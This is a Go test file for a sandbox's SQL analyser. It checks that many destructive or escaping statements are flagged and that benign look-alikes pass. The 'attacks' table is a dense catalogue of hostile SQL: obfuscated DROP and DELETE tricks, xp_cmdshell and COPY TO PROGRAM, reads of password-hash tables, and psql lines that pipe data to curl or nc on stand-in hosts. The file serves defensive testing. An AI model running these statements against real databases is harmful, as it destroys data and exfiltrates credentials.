package sql

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/cordon-sandbox/cordon"
)

// harmful is what a rule would act on: everything but ordinary statements.
func harmful(effects []cordon.Effect) []string {
	var out []string
	for _, e := range effects {
		if e.Kind != cordon.SQL {
			out = append(out, strings.TrimSpace(fmt.Sprintf("%v %s %s %s", e.Kind, e.Op, e.Target, e.Reason)))
		}
	}
	return out
}

var attacks = []struct{ name, src, want string }{
	{"a table is dropped", "drop table invoices", "drop_table invoices"},
	{"a comment for a blank", "DROP/*x*/TABLE/**/invoices", "drop_table invoices"},
	{"a quoted and qualified name", `DROP TABLE "public"."invoices" CASCADE`, "drop_table public.invoices"},
	{"a bracketed name", "DROP TABLE [dbo].[invoices]", "drop_table"},
	{"a back-quoted name", "DROP TABLE `shop`.`invoices`", "drop_table"},
	{"a database", "DROP DATABASE shop", "drop_database shop"},
	{"a schema", "DROP SCHEMA audit CASCADE", "drop_database audit"},
	{"stacked after a select", "SELECT 1; DROP TABLE invoices", "drop_table"},
	{"stacked without a semicolon, as T-SQL takes it", "SELECT 1 DROP TABLE invoices", "drop_table"},
	{"a versioned comment", "SELECT 1; /*!50001 DROP TABLE invoices */", "drop_table"},
	{"a MariaDB comment", "/*M!100100 DROP TABLE invoices */", "drop_table"},
	{"a nested comment that ends early in MySQL", "/* a /* b */ DROP TABLE invoices -- */", "drop_table"},
	{"a backslash that escapes in one dialect only", `SELECT 'a\'; DROP TABLE invoices; --'`, "drop_table"},
	{"a backslash-quote the other way", `SELECT 'it\'s' ; DROP TABLE invoices`, "drop_table"},
	{"double quotes as a string", `SELECT "a;b" ; DROP TABLE invoices`, "drop_table"},
	{"after a hash comment", "SELECT 1 # note\n; DROP TABLE invoices", "drop_table"},
	{"truncate without TABLE", "TRUNCATE invoices", "truncate_table invoices"},
	{"truncate of several", "TRUNCATE TABLE ONLY invoices, lines RESTART IDENTITY", "truncate_table invoices"},
	{"delete without a filter", "DELETE FROM invoices", "delete_unfiltered invoices"},
	{"delete with an alias and no filter", "DELETE FROM invoices AS i", "delete_unfiltered"},
	{"T-SQL delete without FROM", "DELETE invoices", "delete_unfiltered"},
	{"T-SQL TOP is no filter", "DELETE TOP (100000) FROM invoices", "delete_unfiltered"},
	{"one equals one", "DELETE FROM invoices WHERE 1=1", "delete_unfiltered"},
	{"or true", "DELETE FROM invoices WHERE id = 3 OR true", "delete_unfiltered"},
	{"a column equals itself", "UPDATE users SET admin = true WHERE id = id", "update_unfiltered"},
	{"not null", "DELETE FROM users WHERE id IS NOT NULL", "delete_unfiltered"},
	{"a filter and its opposite", "DELETE FROM users WHERE a = 1 OR a <> 1", "delete_unfiltered"},
	{"null or not", "DELETE FROM users WHERE a IS NULL OR a IS NOT NULL", "delete_unfiltered"},
	{"not false", "DELETE FROM users WHERE NOT (1 = 2)", "delete_unfiltered"},
	{"exists of anything", "DELETE FROM users WHERE EXISTS (SELECT 1)", "delete_unfiltered"},
	{"in all of itself", "DELETE FROM users WHERE id IN (SELECT id FROM users)", "delete_unfiltered"},
	{"greater than zero", "DELETE FROM users WHERE id > 0", "delete_unfiltered"},
	{"between all", "DELETE FROM users WHERE id BETWEEN 0 AND 999999999", "delete_unfiltered"},
	{"a pattern of anything", "UPDATE users SET x = 1 WHERE name ILIKE '%%'", "update_unfiltered"},
	{"a regular expression of anything", "UPDATE users SET x = 1 WHERE name ~ '.*'", "update_unfiltered"},
	{"a function of no column", "DELETE FROM users WHERE now() > '2001-01-01'", "delete_unfiltered"},
	{"a parenthesised truth", "DELETE FROM users WHERE ((('a' = 'a')))", "delete_unfiltered"},
	{"in a data-modifying CTE", "WITH gone AS (DELETE FROM invoices RETURNING *) SELECT count(*) FROM gone", "delete_unfiltered"},
	{"under EXPLAIN ANALYZE", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM invoices", "delete_unfiltered"},
	{"under EXPLAIN ANALYZE, short", "explain analyze update users set x = 1", "update_unfiltered"},
	{"prepared", "PREPARE p AS DELETE FROM invoices; EXECUTE p", "delete_unfiltered"},
	{"prepared from a variable", "SET @q = CONCAT('DROP', ' TABLE ', 'invoices'); PREPARE s FROM @q; EXECUTE s", "drop_table invoices"},
	{"in a DO block", "DO $$ BEGIN DELETE FROM invoices; END $$", "delete_unfiltered"},
	{"dynamic in a DO block", "DO $x$ BEGIN EXECUTE 'DROP TA' || 'BLE invoices'; END $x$", "drop_table invoices"},
	{"dynamic by character codes", "DO $$ BEGIN EXECUTE chr(68)||'ROP TABLE invoices'; END $$", "drop_table"},
	{"dynamic from a table", "DO $$ DECLARE r record; BEGIN FOR r IN SELECT c FROM cmds LOOP EXECUTE r.c; END LOOP; END $$", "not constant"},
	{"dynamic by hex", "DO $$ BEGIN EXECUTE convert_from(decode('44524f50205441424c452078','hex'),'UTF8'); END $$", "drop_table"},
	{"dynamic reversed", "EXEC(REVERSE('stnuocca ELBAT PORD'))", "drop_table accounts"},
	{"sp_executesql", "EXEC sp_executesql N'DROP TABLE invoices'", "drop_table"},
	{"a hex literal run", "SET @q = 0x44524f50205441424c452078; PREPARE s FROM @q", "drop_table"},
	{"a unicode string run", `DO $$ BEGIN EXECUTE U&'\0044ROP TABLE invoices'; END $$`, "drop_table"},
	{"a keyword torn by a comment", "DR/**/OP TABLE invoices", "split by a comment"},
	{"COPY TO PROGRAM", "COPY (SELECT 1) TO PROGRAM 'id'", "starts a program"},
	{"COPY FROM a file", "COPY t FROM '/srv/x.csv'", "/srv/x.csv"},
	{"into outfile", "SELECT * FROM users INTO OUTFILE '/var/www/x.php'", "/var/www/x.php"},
	{"into dumpfile", "SELECT 0x41 INTO DUMPFILE '/tmp/a'", "/tmp/a"},
	{"load data", "LOAD DATA LOCAL INFILE '/home/dev/x' INTO TABLE t", "/home/dev/x"},
	{"load_file", "SELECT load_file('/srv/key')", "/srv/key"},
	{"pg_read_file, qualified", "SELECT pg_catalog.pg_read_file('postgresql.conf')", "files on the database server"},
	{"pg_ls_dir", "SELECT * FROM pg_ls_dir('/')", "files on the database server"},
	{"lo_import", "SELECT lo_import('/srv/key')", "files on the database server"},
	{"dblink", "SELECT * FROM dblink('host=198.51.100.9 dbname=x', 'select 1') AS t(a int)", "connect sql 198.51.100.9"},
	{"a foreign server", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.attacker.test')", "connect sql db.attacker.test"},
	{"a subscription", "CREATE SUBSCRIPTION s CONNECTION 'host=db.attacker.test' PUBLICATION p", "connect sql db.attacker.test"},
	{"replication in MySQL", "CHANGE MASTER TO MASTER_HOST='db.attacker.test'", "connect sql db.attacker.test"},
	{"query_to_xml runs text", "SELECT query_to_xml('DELETE FROM invoices', true, true, '')", "delete_unfiltered"},
	{"query_to_xml of what is not constant", "SELECT query_to_xml(q, true, true, '') FROM cmds", "not constant"},
	{"an untrusted language", "CREATE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u", "outside SQL"},
	{"a C function", "CREATE FUNCTION f(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE C", "outside SQL"},
	{"a MySQL plugin function", "CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so'", "native code"},
	{"a hostile extension", "CREATE EXTENSION IF NOT EXISTS file_fdw", "reaches outside"},
	{"a grant", "GRANT ALL ON ALL TABLES IN SCHEMA public TO app", "sql_grant"},
	{"a role", "CREATE ROLE eve SUPERUSER LOGIN PASSWORD 'x'", "sql_role"},
	{"a role changed", "ALTER USER app WITH SUPERUSER", "sql_role"},
	{"another role taken", "SET ROLE postgres", "sql_security"},
	{"another session user", "SET SESSION AUTHORIZATION postgres", "sql_role"},
	{"through set_config", "SELECT set_config('row_security','off',false)", "sql_security"},
	{"row security off", "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY", "sql_security"},
	{"a policy dropped", "DROP POLICY owner_only ON accounts", "sql_security"},
	{"security definer", "CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", "sql_security"},
	{"a rule", "CREATE RULE r AS ON INSERT TO t DO ALSO SELECT 1", "sql_security"},
	{"the owner changed", "ALTER TABLE accounts OWNER TO eve", "sql_role"},
	{"password hashes", "SELECT usename, passwd FROM pg_shadow", "credential pg_shadow"},
	{"password hashes, MySQL", "SELECT user, authentication_string FROM mysql.user", "credential mysql.user"},
	{"password hashes, quoted", `TABLE "pg_authid"`, "credential pg_authid"},
	{"a system table changed", "UPDATE pg_catalog.pg_class SET relacl = NULL WHERE relname = 'x'", "sql_security"},
	{"merge that deletes", "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", "delete_unfiltered"},
	{"merge on a truth", "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET x = s.x", "update_unfiltered"},
	{"attach", "ATTACH DATABASE '/home/dev/.local/share/k.db' AS k", "/home/dev/.local/share/k.db"},
	{"attach of what is computed", "ATTACH '/home/' || 'dev/k.db' AS k", "/home/dev/k.db"},
	{"vacuum into", "VACUUM INTO '/srv/copy.db'", "/srv/copy.db"},
	{"writable schema", "PRAGMA writable_schema = 1", "sql_security"},
	{"load_extension", "SELECT load_extension('/srv/x.so')", "native code"},
	{"writefile", "SELECT writefile('/srv/x', 'y')", "/srv/x"},
	{"xp_cmdshell", "EXEC xp_cmdshell 'dir'", "starts a program"},
	{"xp_cmdshell, dotted", "EXECUTE master.dbo.xp_cmdshell 'dir'", "starts a program"},
	{"xp_cmdshell without EXEC", "xp_cmdshell 'dir'", "starts a program"},
	{"sp_configure", "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE", "sql_security"},
	{"openrowset", "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=198.51.100.9;', 'select 1')", "198.51.100.9"},
	{"a column dropped", "ALTER TABLE accounts DROP COLUMN balance", "drop_table accounts column"},
	{"a shell from psql", "\\! id", "starts a shell"},
	{"a pipe from psql", "SELECT * FROM users \\g |curl -d @- x.test", "starts a shell"},
	{"a file written by psql", "\\o /srv/x\nSELECT 1", "/srv/x"},
	{"\\copy to a program", "\\copy users to program 'nc x.test 1'", "starts a shell"},
	{"a shell from sqlite", ".shell id", "starts a shell"},
	{"a shell from sqlite, later", "SELECT 1;\n.system id", "starts a shell"},
	{"sessions ended", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "kill_all"},
	{"the server stopped", "SHUTDOWN WITH NOWAIT", "power"},
	{"server settings", "ALTER SYSTEM SET archive_command = 'id'", "sql_security"},
	{"global settings", "SET GLOBAL general_log = 'ON'", "sql_security"},
	{"a backup to a share", `BACKUP DATABASE shop TO DISK = '\\x.test\s\b.bak'`, "files on the database server"},
	{"a package's function", "SELECT utl_http.request('http://x.test/') FROM dual", "connect"},
	{"a temporary table hides nothing", "DROP TABLE IF EXISTS pg_temp.x, invoices", "drop_table"},
	{"an unterminated string", "SELECT 'a", "not closed"},
	{"complete statements before it", "DROP TABLE invoices; SELECT 'a", "drop_table"},
}

var benign = []string{
	"SELECT 1", "select * from invoices where note = 'drop table x'", "SELECT 'DROP TABLE x;' AS s", "SELECT \"drop table\" FROM t",
	"-- DROP TABLE x\nSELECT 1", "/* DELETE FROM x */ SELECT 1", "/* it's */ SELECT 1", "SELECT 1 -- it's fine",
	"SELECT `delete`, [update] FROM t", "SELECT deleted, updated_at, truncate_me FROM t", "SELECT TRUNCATE(1.5, 0)",
	"DELETE FROM sessions WHERE id = 42", "DELETE FROM sessions WHERE expires_at < now() - interval '7 days'", "DELETE FROM s WHERE id IN (1,2,3)",
	"UPDATE users SET name = 'x' WHERE id = $1", "UPDATE users SET name = ? WHERE email = ?", "UPDATE t SET a = b.a FROM b WHERE b.id = t.id AND b.ok",
	"UPDATE t SET n = n + 1 WHERE k = 'drop' RETURNING n", "DELETE FROM t USING u WHERE t.uid = u.id AND u.gone = true",
	"DELETE FROM t WHERE id BETWEEN 10 AND 20", "UPDATE t SET x=1 WHERE name LIKE 'tmp%'", "DELETE FROM t WHERE id IN (SELECT id FROM u WHERE u.bad = 1)",
	"INSERT INTO t (a) VALUES ('x') ON CONFLICT (a) DO UPDATE SET a = excluded.a", "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE n = n + 1",
	"INSERT INTO log(msg) VALUES ('GRANT ALL; DROP DATABASE x')", "SELECT * FROM t FOR UPDATE", "SELECT * FROM t FOR UPDATE SKIP LOCKED",
	"EXPLAIN SELECT * FROM t", "EXPLAIN ANALYZE SELECT * FROM t WHERE id = 1", "CREATE TABLE t (id serial PRIMARY KEY, u int REFERENCES u(id) ON DELETE CASCADE ON UPDATE NO ACTION)",
	"CREATE INDEX i ON t (a)", "CREATE VIEW v AS SELECT * FROM t", "CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE TABLE IF NOT EXISTS t2 AS SELECT * FROM t WHERE 1=0",
	"ALTER TABLE t ADD COLUMN c text DEFAULT ''", "ALTER TABLE t ALTER COLUMN c DROP NOT NULL", "ALTER TABLE t ALTER COLUMN c DROP DEFAULT", "ALTER TABLE t RENAME COLUMN a TO b",
	"CREATE EXTENSION IF NOT EXISTS pg_trgm", "CREATE TYPE mood AS ENUM ('sad')", "CREATE SEQUENCE s", "COMMENT ON TABLE t IS 'drop table later'",
	"BEGIN; INSERT INTO t VALUES (1); COMMIT", "START TRANSACTION; UPDATE t SET a=1 WHERE id=1; ROLLBACK", "SET statement_timeout = 1000", "SET search_path TO app", "SHOW TABLES", "DESCRIBE t",
	"PRAGMA table_info(t)", "PRAGMA journal_mode=WAL", "VACUUM", "ANALYZE t", "COPY t FROM STDIN", "COPY (SELECT 1) TO STDOUT WITH CSV",
	"WITH x AS (SELECT 1) SELECT * FROM x", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r",
	"SELECT a[1], ARRAY[1,2], '{1}'::int[] FROM t", "SELECT data->>'delete' FROM t WHERE data @> '{\"a\":1}'", "SELECT data #>> '{a,b}' FROM t", "SELECT E'it\\'s' , 'ok'",
	"SELECT $$ DROP TABLE x $$ AS doc", "SELECT replace(a, 'drop', 'x') FROM t", "SELECT left(a, 3), right(a, 2), reverse(a) FROM t", "SELECT count(*) FILTER (WHERE ok) FROM t",
	"CREATE TRIGGER tr BEFORE UPDATE OR DELETE ON t FOR EACH ROW EXECUTE FUNCTION touch()", "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'",
	"CREATE FUNCTION touch() RETURNS trigger AS $$ BEGIN NEW.updated_at = now(); RETURN NEW; END $$ LANGUAGE plpgsql",
	"DO $$ BEGIN RAISE NOTICE 'drop table'; END $$", "SELECT * FROM \"user\" WHERE id = 1", "SELECT role, grant_date, policy FROM members", "SELECT drop, kill FROM stats",
	"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x WHEN NOT MATCHED THEN INSERT VALUES (s.id)", "SELECT concat('DELETE', ' FROM x')", "SELECT url, file, glob FROM t",
	"REPLACE INTO kv VALUES ('a', 1)", "SELECT 'a' 'b'", "SELECT N'x', B'1', X'ff'", "UPDATE t SET a = 1 WHERE id = 1 OR id = 2", "UPDATE t SET a = 1 WHERE ok AND id > 0", "DELETE FROM t WHERE NOT active",
	"SELECT 1 -- trailing\n;\n-- comment only", ";;", "SELECT * FROM t WHERE a = '\\'", "INSERT INTO t VALUES ('C:\\dir\\')", "SELECT 5 # 3", "SELECT 10 % 3, 2 ^ 3", "SELECT :name, @x, $1",
	"USE shop", "SELECT * FROM information_schema.tables", "SELECT current_user, version()", "SELECT * FROM pg_stat_activity", "SELECT pid FROM pg_stat_activity WHERE state = 'idle'",
	"PREPARE get AS SELECT * FROM t WHERE id = $1; EXECUTE get(1); DEALLOCATE get", "DECLARE c CURSOR FOR SELECT 1", "LISTEN jobs; NOTIFY jobs, 'drop'", "SELECT * FROM t1 JOIN t2 USING (id) WHERE t1.a > 0",
}

func TestAttacks(t *testing.T) {
	for _, c := range attacks {
		got := harmful(Lower(t.Context(), c.src, Env{Dir: "/w"}))
		if !strings.Contains(strings.Join(got, "\n"), c.want) {
			t.Errorf("%s: %q gave %q, want something with %q", c.name, c.src, got, c.want)
		}
	}
}

func TestNearMisses(t *testing.T) {
	for _, src := range benign {
		if got := harmful(Lower(t.Context(), src, Env{Dir: "/w"})); len(got) > 0 {
			t.Errorf("%q gave %q", src, got)
		}
	}
}

// Upper and lower case, and white space in any amount, make no difference.
func TestSpellingsOfAttacks(t *testing.T) {
	for _, c := range attacks {
		if strings.ContainsAny(c.src, `'"$`) || strings.Contains(c.name, "comment") || strings.Contains(c.src, "0x") || strings.ContainsAny(c.src, "\\\n./") {
			continue
		}
		for _, src := range []string{strings.ToLower(c.src), strings.ToUpper(c.src), strings.ReplaceAll(c.src, " ", "\n\t "), "SELECT 1;" + c.src + ";", c.src + " -- x"} {
			if got := harmful(Lower(t.Context(), src, Env{Dir: "/w"})); len(got) == 0 {
				t.Errorf("%s: %q gave nothing", c.name, src)
			}
		}
	}
}

func TestShellOfMetaCommandsIsRead(t *testing.T) {
	var got string
	env := Env{Dir: "/w", Code: func(_ context.Context, lang, src, dir string) []cordon.Effect {
		got = lang + " " + src + " " + dir
		return []cordon.Effect{{Kind: cordon.Read, Target: "/x"}}
	}}
	effects := Lower(t.Context(), "\\! cat /x", env)
	if got != "shell cat /x /w" {
		t.Errorf("the shell was asked for %q", got)
	}
	if s := strings.Join(harmful(effects), "\n"); !strings.Contains(s, "read  /x") {
		t.Errorf("its effects are missing: %s", s)
	}
}

func TestLimits(t *testing.T) {
	for name, src := range map[string]string{
		"too large":                    "SELECT '" + strings.Repeat("x", MaxSize) + "'",
		"a change in every word":       strings.Repeat("update a ", 20000),
		"dynamic text nested too deep": nested(MaxDepth + 2),
	} {
		if got := strings.Join(harmful(Lower(t.Context(), src, Env{})), "\n"); !strings.Contains(got, "opaque") {
			t.Errorf("%s: %q", name, got)
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if got := strings.Join(harmful(Lower(ctx, "SELECT 1", Env{})), "\n"); !strings.Contains(got, "time") {
		t.Errorf("a cancelled reading gave %q", got)
	}
}

func nested(n int) string {
	src := "SELECT 1"
	for i := range n {
		tag := fmt.Sprintf("$t%d$", i)
		src = "DO " + tag + src + tag
	}
	return src
}

func FuzzLower(f *testing.F) {
	for _, c := range attacks {
		f.Add(c.src)
	}
	for _, s := range benign {
		f.Add(s)
	}
	f.Add(strings.Repeat("(", 3000))
	f.Add(strings.Repeat("a or ", 3000))
	for _, conditions := range wideConditions {
		for _, cond := range conditions {
			f.Add("DELETE FROM t WHERE " + cond)
		}
	}
	for _, statements := range attacksByKind {
		for _, src := range statements {
			f.Add(src)
		}
	}
	f.Add("DELETE FROM t WHERE " + strings.Repeat("a = not ", 400))
	f.Add("DELETE FROM t WHERE " + strings.Repeat("position(", 400))
	f.Add("DELETE FROM t WHERE " + strings.Repeat("a in (select a from t where (", 200))
	f.Add("DELETE FROM t WHERE " + strings.Repeat("(a=1 or ", 500))
	f.Fuzz(func(t *testing.T, src string) {
		Lower(t.Context(), src, Env{Dir: "/w"})
		// Whatever stands before it, a complete statement after a semicolon
		// at the top level of every dialect counts.
		if !strings.ContainsAny(src, "'\"`[$\\#-/*()@.") {
			got := strings.Join(harmful(Lower(t.Context(), src+";\nDROP TABLE invoices", Env{Dir: "/w"})), "\n")
			if len(src) < MaxSize/2 && !strings.Contains(got, "drop_table invoices") {
				t.Errorf("after %q the drop was lost: %q", src, got)
			}
		}
	})
}

func BenchmarkLower1KB(b *testing.B) {
	src := ""
	for len(src) < 1000 {
		src += "SELECT id, name, total FROM invoices WHERE status = 'open' AND created_at > '2024-01-01' ORDER BY id;\n"
	}
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for b.Loop() {
		Lower(b.Context(), src, Env{})
	}
}

func BenchmarkLower256KB(b *testing.B) {
	for name, unit := range map[string]string{"selects": "SELECT a FROM t WHERE b = 'c';\n", "parentheses": "(", "ors": "a or ", "commas": "a,", "quotes": "'a' ", "updates": "update a ", "conjunctions": "a&&b ", "calls": "dblink(", "alters": "alter table a ", "tuples": "(a,b)=(a,b) or ",
		"choices": "coalesce(a,b)=c and ", "blanks": "\u00a0", "versions": "/*!", "parts": "user.", "patterns": "a ~ 'x{900}' or ", "lists": "a in (1,2,3,4,5,6,7,8) or ", "subqueries": "(select 1 from t where a=b) or "} {
		b.Run(name, func(b *testing.B) {
			src := "DELETE FROM t WHERE " + strings.Repeat(unit, MaxSize/len(unit)-30)
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				Lower(b.Context(), src, Env{})
			}
		})
	}
}
